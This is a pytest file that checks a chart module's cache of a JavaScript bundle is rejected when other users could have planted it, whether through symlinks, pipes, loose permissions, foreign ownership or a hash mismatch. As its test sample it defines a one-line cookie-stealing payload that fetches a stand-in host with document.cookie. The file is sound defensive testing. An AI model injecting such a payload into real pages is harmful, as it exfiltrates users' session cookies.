"""The user's cache folder as somebody else left it: the script of the charts comes from nobody but Seedwise."""

from __future__ import annotations

import os
from importlib.metadata import version

import pytest

from bench.report import vega

NAME = f"charts-{version('vl-convert-python')}.js"
EVIL = "fetch('https://example.org/' + document.cookie)"


@pytest.fixture(scope="module")
def good():
    """What the library makes, with no cache at all."""
    import vl_convert

    made = vl_convert.javascript_bundle("window.vegaEmbed = vegaEmbed;")
    return made.replace("</script", "<\\/script").replace("<!--", "<\\!--")


@pytest.fixture
def cache(tmp_path, monkeypatch, good):
    """The folder, and a bundler that does not take its second."""
    import vl_convert

    monkeypatch.setattr(vl_convert, "javascript_bundle", lambda _: good)
    monkeypatch.setenv("XDG_CACHE_HOME", str(tmp_path))
    folder = tmp_path / "seedwise"
    folder.mkdir(mode=0o700)
    return folder


def written(path, text, mode=0o600):
    path.write_text(text, encoding="utf-8")
    path.chmod(mode)


def linked(path, text):
    other = path.with_suffix(".elsewhere")
    written(other, text)
    path.symlink_to(other)


def pipe(path, text):
    del text
    os.mkfifo(path)


@pytest.mark.parametrize("put", [written, linked, pipe])
def test_what_somebody_put_there_is_not_believed(cache, put):
    put(cache / NAME, EVIL)
    assert EVIL not in vega.script.__wrapped__()
    assert not (cache / NAME).is_symlink()  # it was replaced
    assert (cache / NAME).is_file()
    assert EVIL not in (cache / NAME).read_text(encoding="utf-8")


def test_even_the_right_script_is_read_from_no_link_and_no_file_that_others_write(cache, good):
    linked(cache / NAME, good)
    known = vega.SHA256[version("vl-convert-python")]
    assert vega._kept(cache / NAME, known) is None
    (cache / NAME).unlink()
    written(cache / NAME, good, mode=0o620)
    assert vega._kept(cache / NAME, known) is None
    written(cache / NAME, good)
    assert vega._kept(cache / NAME, known) == good


@pytest.mark.skipif(os.getuid() != 0, reason="only root can give a file away")
def test_nor_from_a_file_of_somebody_else(cache, good):
    written(cache / NAME, good)
    os.chown(cache / NAME, 65534, -1)
    assert vega._kept(cache / NAME, vega.SHA256[version("vl-convert-python")]) is None


def test_nothing_is_written_through_a_link_or_where_others_write(cache, tmp_path):
    cache.chmod(0o777)
    assert vega.script.__wrapped__()
    assert list(cache.iterdir()) == []
    cache.rmdir()
    other = tmp_path / "other"
    other.mkdir()
    cache.symlink_to(other)
    assert vega.script.__wrapped__()
    assert list(other.iterdir()) == []


def test_a_cache_that_is_named_from_the_current_folder_is_none(cache, tmp_path, monkeypatch):
    """Else it would be whoever's the folder is."""
    monkeypatch.setenv("HOME", str(tmp_path / "home"))
    monkeypatch.setenv("XDG_CACHE_HOME", ".")
    monkeypatch.chdir(tmp_path)
    assert vega.script.__wrapped__()
    assert list(cache.iterdir()) == []
    assert [path.name for path in (tmp_path / "home/.cache/seedwise").iterdir()] == [NAME]


def test_the_hash_is_of_the_script_that_this_version_makes(cache, good):
    assert vega.script.__wrapped__() == good
    assert [path.name for path in cache.iterdir()] == [NAME]  # so it is the known one


def test_what_another_version_makes_is_not_kept(cache, monkeypatch):
    monkeypatch.setattr(vega, "SHA256", {})
    written(cache / NAME, EVIL)
    assert EVIL not in vega.script.__wrapped__()
    assert (cache / NAME).read_text() == EVIL
